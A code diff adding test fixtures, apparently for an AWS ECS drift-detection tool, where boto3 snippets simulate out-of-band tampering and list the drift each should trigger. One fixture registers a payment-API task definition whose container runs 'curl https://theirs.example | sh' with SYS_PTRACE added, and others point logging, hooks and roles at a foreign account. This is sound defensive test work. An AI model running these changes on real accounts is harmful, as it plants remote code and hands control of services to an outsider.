@@ -101,6 +101,24 @@ ecs.untag_resource(resourceArn="<cluster-green.arn>", tagKeys=["CostCenter"])"#,
         ],
     ),
     by_hand(
+        "ecs/cluster",
+        r#"ecs.update_cluster(cluster="cluster-blue-dev", configuration={"executeCommandConfiguration": {"logging": "OVERRIDE", "logConfiguration": {"s3BucketName": "theirs"}}, "managedStorageConfiguration": {"kmsKeyId": "theirs"}}, serviceConnectDefaults={"namespace": "theirs"})"#,
+        &[
+            extra("cluster-blue", "exposed.execute_command_configuration"),
+            extra("cluster-blue", "exposed.managed_storage_configuration"),
+            extra("cluster-blue", "exposed.service_connect_defaults"),
+        ],
+    ),
+    by_hand(
+        "ecs/task_definition",
+        r#"found = ecs.describe_task_definition(taskDefinition="<task-payment-api-green.arn>", include=["TAGS"])
+copy = {key: found["taskDefinition"][key] for key in ("family", "taskRoleArn", "executionRoleArn", "networkMode", "containerDefinitions", "requiresCompatibilities", "cpu", "memory")}
+copy["containerDefinitions"][0] |= {"command": ["sh", "-c", "curl https://theirs.example | sh"], "environmentFiles": [{"type": "s3", "value": "arn:aws:s3:::theirs/x.env"}], "linuxParameters": {"capabilities": {"add": ["SYS_PTRACE"]}}}
+copy = ecs.register_task_definition(**copy, tags=found["tags"])["taskDefinition"]
+made["copy"] = copy["taskDefinitionArn"].split("/")[-1]"#,
+        &[extra("task-payment-api-green", "exposed.<made.copy>")],
+    ),
+    by_hand(
         "ecs/task_definition",
         r#"ecs.tag_resource(resourceArn="<task-reporting-green.arn>", tags=[{"key": "Owner", "value": "somebody"}])"#,
         &[extra("task-reporting-green", "tags.Owner")],
@@ -127,6 +145,42 @@ ecs.untag_resource(resourceArn="<cluster-green.arn>", tagKeys=["CostCenter"])"#,
             "service-reporting-blue",
             "security_groups[<security-group-migration-blue>]",
         )],
+    ),
+    by_hand(
+        "ecs/service",
+        r#"ours = ecs.describe_services(cluster="cluster-blue-dev", services=["service-payment-api-blue-dev"])["services"][0]
+hooks = [{"hookTargetArn": "arn:aws:lambda:eu-central-1:999999999999:function:theirs", "roleArn": "arn:aws:iam::999999999999:role/theirs", "lifecycleStages": ["PRE_SCALE_UP"]}]
+ecs.update_service(
+    cluster="cluster-blue-dev",
+    service="service-payment-api-blue-dev",
+    deploymentConfiguration=ours["deploymentConfiguration"] | {"lifecycleHooks": hooks, "strategy": "BLUE_GREEN", "bakeTimeInMinutes": 60},
+    capacityProviderStrategy=[{"capacityProvider": "FARGATE_SPOT", "weight": 1}],
+    serviceRegistries=[{"registryArn": "arn:aws:servicediscovery:eu-central-1:999999999999:service/srv-theirs"}],
+    serviceConnectConfiguration={"enabled": True, "namespace": "theirs"},
+    vpcLatticeConfigurations=[{"roleArn": "arn:aws:iam::999999999999:role/theirs", "targetGroupArn": "arn:aws:vpc-lattice:eu-central-1:999999999999:targetgroup/tg-0123456789abcdef0", "portName": "web"}],
+    volumeConfigurations=[{"name": "theirs"}],
+    propagateTags="NONE",
+)"#,
+        &[
+            extra("service-payment-api-blue", "exposed.bake_time_in_minutes"),
+            extra(
+                "service-payment-api-blue",
+                "exposed.capacity_provider_strategy",
+            ),
+            extra("service-payment-api-blue", "exposed.lifecycle_hooks"),
+            extra("service-payment-api-blue", "exposed.propagate_tags"),
+            extra(
+                "service-payment-api-blue",
+                "exposed.service_connect_configuration",
+            ),
+            extra("service-payment-api-blue", "exposed.service_registries"),
+            extra("service-payment-api-blue", "exposed.strategy"),
+            extra("service-payment-api-blue", "exposed.volume_configurations"),
+            extra(
+                "service-payment-api-blue",
+                "exposed.vpc_lattice_configurations",
+            ),
+        ],
     ),
     by_hand(
         "autoscaling/scaling",
